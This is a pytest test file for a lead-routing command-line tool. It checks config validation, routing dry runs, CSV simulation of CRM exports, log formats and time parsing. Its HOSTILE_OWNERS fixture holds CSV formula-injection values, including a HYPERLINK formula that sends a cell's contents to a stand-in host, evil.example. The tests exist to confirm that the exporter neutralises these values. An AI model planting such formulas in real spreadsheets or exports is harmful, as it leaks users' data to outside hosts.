"""The admin's command line, driven as an admin would: `leadrelay ...` with an app.yaml."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
import time_machine
import yaml
from click.testing import CliRunner
from conftest import REPO, TUESDAY_10AM, at, config_data, lead

from connector.cli import main
from workflows.config_loader import load_config
from workflows.router import Router
from workflows.store_registry import open_store


@pytest.fixture
def app_yaml(tmp_path):
    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(config_data(store="sqlite:///state.sqlite")))
    return path


def leadrelay(*args: str, config=None):
    runner = CliRunner()
    prefix = ["--config", str(config)] if config else []
    return runner.invoke(main, [*prefix, *args], catch_exceptions=False)


def test_check_summarises_a_valid_config(app_yaml):
    result = leadrelay("check", config=app_yaml)
    assert result.exit_code == 0
    assert "reps: 3 (3 active)" in result.output
    assert "pool team: round_robin, alice, bob, chen" in result.output
    assert "everyone -> pool team" in result.output


def test_check_shows_else_chains_queues_and_follow_up_tasks(tmp_path):
    data = config_data(
        store="sqlite:///state.sqlite",
        queues={"nurture": {"salesforce": "00G5g000004NuRtEAK", "first_touch": "4h"}},
        task={"type": "email"},
        flow=[
            {"name": "big deals", "when": {"object": "deal"}, "assign": {"pool": "team"},
             "task": {"type": "call", "priority": "high", "due": "15m"}},
            {"name": "customers", "assign": {"account_owner": True, "else": {"rep": "bob"}}},
            {"name": "cold", "when": {"score": {"lt": 20}}, "assign": {"queue": "nurture"}},
        ],
    )  # fmt: skip
    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(data))
    lines = leadrelay("check", config=path).output.splitlines()
    assert "queue nurture: salesforce 00G5g000004NuRtEAK, pick-up 4h00m" in lines
    assert "  big deals -> pool team; task: call, high, due 15m (working hours)" in lines
    assert (
        "  customers -> account owner, else rep bob; task: email, normal, due 1h00m (working hours)"
        in lines
    )
    assert "  cold -> queue nurture" in lines  # a queue gets no task


def test_check_names_the_path_of_an_error_and_exits_1(tmp_path):
    data = config_data(
        pools={"team": {"members": ["alice"], "strategy": "round_robin"}},
        flow=[
            {"name": "x", "assign": {"pool": "team"}},
            {"name": "big", "flow": [{"name": "na", "assign": {"pool": "enterprize"}}]},
        ],
    )
    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(data))
    result = CliRunner().invoke(main, ["--config", str(path), "check"])
    assert result.exit_code == 1
    assert "flow[1].flow[0].assign.pool: unknown pool 'enterprize'" in result.output


def test_check_reads_the_config_named_by_the_environment(app_yaml, monkeypatch):
    monkeypatch.setenv("LEADRELAY_CONFIG", str(app_yaml))
    assert leadrelay("check").exit_code == 0


def test_route_prints_the_decision_as_json_and_changes_nothing(app_yaml):
    payload = json.dumps([{"id": "A", "country": "US"}, {"id": "B"}])
    result = leadrelay("route", payload, "--json", "--at", "2026-11-24T10:00", config=app_yaml)
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(x["lead"], x["owner"], x["rule"]) for x in lines] == [
        ("A", "alice", "everyone"),
        ("B", "alice", "everyone"),  # a dry run: the second lead sees the same turn
    ]
    assert {"lead", "owner", "rule", "strategy", "reason", "skipped"} <= set(lines[0])
    assert leadrelay("log", "--format", "json", config=app_yaml).stdout == ""


def test_route_explains_skips_in_text(tmp_path):
    data = config_data()
    data["reps"][0]["out_of_office"] = ["2026-11-24"]
    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(data))
    result = leadrelay("route", '{"id": "A"}', "--at", "2026-11-24T10:00", config=path)
    assert "A: bob (assigned) by rule everyone" in result.output
    assert "skipped alice: out of office 2026-11-24" in result.output


def test_route_rejects_bad_json_with_a_clear_message(app_yaml):
    result = CliRunner().invoke(main, ["--config", str(app_yaml), "route", "{nope"])
    assert result.exit_code == 1
    assert "LEAD_JSON is not valid JSON" in result.output
    bad_number = CliRunner().invoke(
        main, ["--config", str(app_yaml), "route", '{"id": "A", "employees": "lots"}']
    )
    assert bad_number.exit_code == 1
    assert "employees: expected a number, got 'lots'" in bad_number.output


def test_simulate_prints_distribution_and_leaves_live_state_untouched(app_yaml, tmp_path):
    config = load_config(app_yaml)
    store = open_store(config.store_url)
    Router(config, store).route(lead("live-1"), TUESDAY_10AM)  # live state: alice had a turn
    store.close()
    leads = tmp_path / "leads.csv"
    leads.write_text(
        "id,country,created_at\n" + "".join(f"L{i},US,2026-11-24T10:0{i}\n" for i in range(6))
    )
    result = leadrelay("simulate", str(leads), config=app_yaml)
    assert result.exit_code == 0
    assert "6 leads routed" in result.output
    assert "bob" in result.output and "33.3%" in result.output
    as_json = leadrelay("simulate", str(leads), "--json", config=app_yaml)
    picks = [json.loads(line)["owner"] for line in as_json.stdout.splitlines()]
    assert picks == ["bob", "chen", "alice", "bob", "chen", "alice"]  # continues the live turn
    log = leadrelay("log", "--format", "json", config=app_yaml).stdout.splitlines()
    assert [json.loads(line)["lead_id"] for line in log] == ["live-1"]


def test_simulate_routes_each_row_at_its_created_at(tmp_path):
    data = config_data()
    data["reps"][0]["hours"] = "Mon-Fri 09:00-17:00"
    data["pools"]["team"]["strategy"] = "first_available"
    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(data))
    leads = tmp_path / "leads.csv"
    leads.write_text("id,created_at\nearly,2026-11-24T07:00\nlate,2026-11-24T10:00\n")
    result = leadrelay("simulate", str(leads), "--json", config=path)
    picks = [json.loads(line) for line in result.stdout.splitlines()]
    assert [p["owner"] for p in picks] == ["bob", "alice"]
    assert "outside working hours" in picks[0]["skipped"]["alice"]


def test_simulate_names_the_bad_row(app_yaml, tmp_path):
    leads = tmp_path / "leads.csv"
    leads.write_text("id,employees\nok,5\nbad,many\n")
    result = CliRunner().invoke(main, ["--config", str(app_yaml), "simulate", str(leads)])
    assert result.exit_code == 1
    assert "leads.csv line 3: employees" in result.output


def test_shipped_sample_csv_simulates_against_the_shipped_app_yaml(tmp_path):
    shutil.copy(REPO / "app.yaml", tmp_path / "app.yaml")
    sample = REPO / "docs" / "examples" / "leads.csv"
    with sample.open() as handle:
        rows = sum(1 for _ in csv.DictReader(handle))
    assert rows >= 200
    result = leadrelay("simulate", str(sample), "--json", config=tmp_path / "app.yaml")
    decisions = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(decisions) == rows
    assert all(d["owner"] for d in decisions)
    assert len({d["rule"] for d in decisions}) >= 6


def test_log_filters_and_formats(app_yaml):
    config = load_config(app_yaml)
    store = open_store(config.store_url)
    router = Router(config, store)
    for i in range(4):
        router.route(lead(f"L{i}"), TUESDAY_10AM.replace(hour=10 + i), source="hubspot")
    store.close()
    table = leadrelay("log", config=app_yaml).stdout.splitlines()
    assert table[0].split()[:3] == ["id", "time", "(UTC)"]
    assert len(table) == 5
    rows = list(csv.DictReader(leadrelay("log", "--format", "csv", "--rep", "bob",
                                         config=app_yaml).stdout.splitlines()))  # fmt: skip
    assert [(r["lead_id"], r["new_owner"], r["rule"]) for r in rows] == [("L1", "bob", "everyone")]
    since = leadrelay("log", "--format", "json", "--since", "2026-11-24T12:00", config=app_yaml)
    assert [json.loads(x)["lead_id"] for x in since.stdout.splitlines()] == ["L2", "L3"]
    one = leadrelay("log", "--format", "json", "--lead", "L3", config=app_yaml)
    assert json.loads(one.stdout)["decision"]["rep_id"] == "alice"


def test_log_since_yesterday_starts_at_local_midnight_of_the_day_before(app_yaml):
    config = load_config(app_yaml)
    store = open_store(config.store_url)
    router = Router(config, store)
    for lead_id, when in (("before", "2026-11-23 23:59"), ("after", "2026-11-24 00:01"),
                          ("recent", "2026-11-25 08:30")):  # fmt: skip
        router.route(lead(lead_id), at(when))
    store.close()
    with time_machine.travel(at("2026-11-25 09:00"), tick=False):
        yesterday = leadrelay("log", "--format", "json", "--since", "yesterday", config=app_yaml)
        two_hours = leadrelay("log", "--format", "json", "--since", "2h ago", config=app_yaml)
    assert [json.loads(x)["lead_id"] for x in yesterday.stdout.splitlines()] == ["after", "recent"]
    assert [json.loads(x)["lead_id"] for x in two_hours.stdout.splitlines()] == ["recent"]


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["log", "--since", "last tuesday"], "--since"),
        (["route", '{"id": "A"}', "--at", "soon"], "--at"),
        (["sweep", "--once", "--now", "2026-13-01"], "--now"),
    ],
)
def test_a_bad_time_is_an_error_naming_its_own_option(app_yaml, args, option):
    result = CliRunner().invoke(main, ["--config", str(app_yaml), *args])
    assert result.exit_code == 2
    assert f"Invalid value for '{option}'" in result.output
    assert "expected an ISO-8601 time" in result.output and "yesterday" in result.output
    assert "Traceback" not in result.output
    others = {"--since", "--at", "--now"} - {option}
    assert not any(other in result.output for other in others)


def test_simulate_at_names_itself_in_its_error(app_yaml, tmp_path):
    leads = tmp_path / "leads.csv"
    leads.write_text("id\nA\n")
    result = CliRunner().invoke(main, ["--config", str(app_yaml), "simulate", str(leads),
                                       "--at", "whenever"])  # fmt: skip
    assert result.exit_code == 2 and "Invalid value for '--at'" in result.output


@pytest.mark.parametrize("command", [["log"], ["route"], ["simulate"], ["sweep"]])
def test_every_time_option_documents_the_relative_times(command):
    result = CliRunner().invoke(main, [*command, "--help"])
    assert "yesterday" in result.output and "2h" in result.output and "ago" in result.output


HOSTILE_OWNERS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
                  "\tcmd", "\rcmd", "a;=1+1"]  # fmt: skip


@pytest.fixture
def hostile_log(app_yaml):
    """A log whose second row holds lone surrogates and whose rows hold formulas from a CRM."""
    config = load_config(app_yaml)
    store = open_store(config.store_url)
    router = Router(config, store)
    router.route(lead("first"), TUESDAY_10AM, source="hubspot")
    router.route(lead("A\ud800", first_name="\ud800", email="x\udfff@acme.com",
                      owner="\ud800=1"), TUESDAY_10AM, source="hubspot")  # fmt: skip
    for number, owner in enumerate(HOSTILE_OWNERS):
        router.route(lead(f"F{number}", owner=owner), TUESDAY_10AM, source="hubspot")
    router.route(lead("=last"), TUESDAY_10AM, source="hubspot")
    store.close()
    return app_yaml


def test_log_csv_writes_every_row_with_lone_surrogates_replaced(hostile_log):
    result = CliRunner().invoke(main, ["--config", str(hostile_log), "log", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["lead_id"] for r in rows] == [
        "first", "A\ufffd", *(f"F{n}" for n in range(len(HOSTILE_OWNERS))), "'=last",
    ]  # fmt: skip
    assert rows[1]["previous_owner"] == "\ufffd=1"
    result.stdout.encode("utf-8")  # well-formed: any UTF-8 reader takes it


def test_log_csv_neutralises_formulas_as_owasp_advises(hostile_log):
    result = CliRunner().invoke(main, ["--config", str(hostile_log), "log", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    owners = [r["previous_owner"] for r in rows if r["lead_id"].startswith("F")]
    assert owners == [f"'{owner}" if owner[0] in "=+-@\t\r" else owner
                      for owner in HOSTILE_OWNERS]  # fmt: skip
    for cells in list(csv.reader(io.StringIO(result.stdout)))[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert result.stdout.splitlines()[0].startswith('"id","decided_at"')  # every cell quoted


def test_log_table_and_json_survive_lone_surrogates_and_control_characters(hostile_log):
    table = CliRunner().invoke(main, ["--config", str(hostile_log), "log"])
    assert table.exit_code == 0, table.output
    lines = table.stdout.splitlines()
    assert len(lines) == 1 + 3 + len(HOSTILE_OWNERS)  # a tab or CR in a value breaks no row
    assert "A\ufffd" in table.stdout and "\r" not in table.stdout
    as_json = CliRunner().invoke(main, ["--config", str(hostile_log), "log", "--format", "json"])
    assert as_json.exit_code == 0, as_json.output
    records = [json.loads(line) for line in as_json.stdout.splitlines()]
    assert [r["lead_id"] for r in records][:2] == ["first", "A\ud800"]  # kept exactly
    assert records[1]["lead_email"] == "x\udfff@acme.com"
    assert len(records) == 3 + len(HOSTILE_OWNERS)


# -- simulate: the CRMs' own export headers ---------------------------------------------------
@pytest.fixture
def big_us_yaml(tmp_path):
    data = config_data(
        flow=[
            {"name": "big-us", "assign": {"rep": "chen"},
             "when": {"country": "US", "employees": {"gte": 1000}, "source": "Referral"}},
            {"name": "hot", "assign": {"rep": "alice"}, "when": {"raw.Rating": "Hot"}},
        ],
    )  # fmt: skip
    path = tmp_path / "app.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


@pytest.mark.parametrize(
    ("header", "row"),
    [
        (
            "Record ID,First Name,Country/Region,Number of Employees,Original Source,Phone Number",
            "901,Ana,US,5000,Referral,555",
        ),  # HubSpot's export labels
        (
            "hs_object_id,firstname,country,numemployees,hs_analytics_source,phone",
            "901,Ana,US,1000+,Referral,555",
        ),  # HubSpot's API names
        (
            "Lead ID,First Name,Country,Employees,Lead Source,Phone",
            "00Q1,Ana,US,5000,Referral,555",
        ),  # a Salesforce report
        (
            "Id,FirstName,Country,NumberOfEmployees,LeadSource,Phone",
            "00Q1,Ana,US,5000,Referral,555",
        ),  # Salesforce's API names (Data Loader)
        (
            " COUNTRY , number of employees,LEAD SOURCE,first name,Phone",
            "US,5000,Referral,Ana,555",
        ),  # any case and spacing
    ],
)
def test_simulate_reads_the_crms_own_export_headers(big_us_yaml, tmp_path, header, row):
    leads = tmp_path / "export.csv"
    leads.write_text(f"{header}\n{row}\n")
    result = CliRunner().invoke(main, ["--config", str(big_us_yaml), "simulate", str(leads),
                                       "--json"])  # fmt: skip
    assert result.exit_code == 0, result.output
    (decision,) = [json.loads(line) for line in result.stdout.splitlines()]
    assert (decision["owner"], decision["rule"]) == ("chen", "big-us")
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1
    assert "no rule reads the column(s)" in warnings[0]
    assert "hone" in warnings[0]  # as the CSV titles it
    assert "irst" not in warnings[0]  # a known field, though no rule reads it
    assert "ountry" not in warnings[0] and "mployees" not in warnings[0]


def test_simulate_warns_once_about_columns_that_feed_nothing(big_us_yaml, tmp_path):
    leads = tmp_path / "export.csv"
    leads.write_text("Pays,Salariés,rating\n" + "US,5000,Hot\n" * 3)
    result = CliRunner().invoke(main, ["--config", str(big_us_yaml), "simulate", str(leads),
                                       "--json"])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["rule"] for line in result.stdout.splitlines()] == ["hot"] * 3
    assert result.stderr.count("warning:") == 1
    assert "no rule reads the column(s) Pays, Salariés:" in result.stderr  # rating: raw.Rating


def test_simulate_errors_name_the_column_as_the_csv_titles_it_once(big_us_yaml, tmp_path):
    leads = tmp_path / "export.csv"
    leads.write_text("Record ID,Number of Employees,Create Date\n1,5,2026-11-24\n2,lots,\n")
    result = CliRunner().invoke(main, ["--config", str(big_us_yaml), "simulate", str(leads)])
    assert result.exit_code == 1
    assert "error: export.csv line 3: Number of Employees: expected a number, got 'lots'" in (
        result.output
    )
    leads.write_text("created_at\nsoon\n")
    result = CliRunner().invoke(main, ["--config", str(big_us_yaml), "simulate", str(leads)])
    assert result.exit_code == 1
    assert "line 2: created_at: expected an ISO-8601 time, got 'soon'" in result.output
    assert "created_at: created_at" not in result.output


def test_simulate_uses_the_first_column_with_a_value_when_two_hold_one_field(big_us_yaml, tmp_path):
    leads = tmp_path / "export.csv"
    leads.write_text("Country,Country/Region,Employees,Lead Source\n,US,5000,Referral\n")
    result = CliRunner().invoke(main, ["--config", str(big_us_yaml), "simulate", str(leads),
                                       "--json"])  # fmt: skip
    assert json.loads(result.stdout)["rule"] == "big-us"
    assert "columns Country, Country/Region all hold country" in result.stderr


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("id,Company\nA,Café\n".encode("cp1252"), "export.csv: not UTF-8 text"),
        (b"id,country\nA," + b"x" * 200_000 + b"\n", "export.csv line 2: not readable as CSV"),
    ],
)
def test_simulate_refuses_a_file_it_cannot_read_without_a_traceback(
    big_us_yaml, tmp_path, content, message
):
    leads = tmp_path / "export.csv"
    leads.write_bytes(content)
    result = CliRunner().invoke(main, ["--config", str(big_us_yaml), "simulate", str(leads)])
    assert result.exit_code == 1
    assert f"error: {message}" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_route_prints_a_lead_id_with_a_lone_surrogate(app_yaml):
    result = CliRunner().invoke(main, ["--config", str(app_yaml), "route", '{"id": "A\\ud800"}'])
    assert result.exit_code == 0, result.output
    assert "A\ufffd: alice (assigned)" in result.stdout
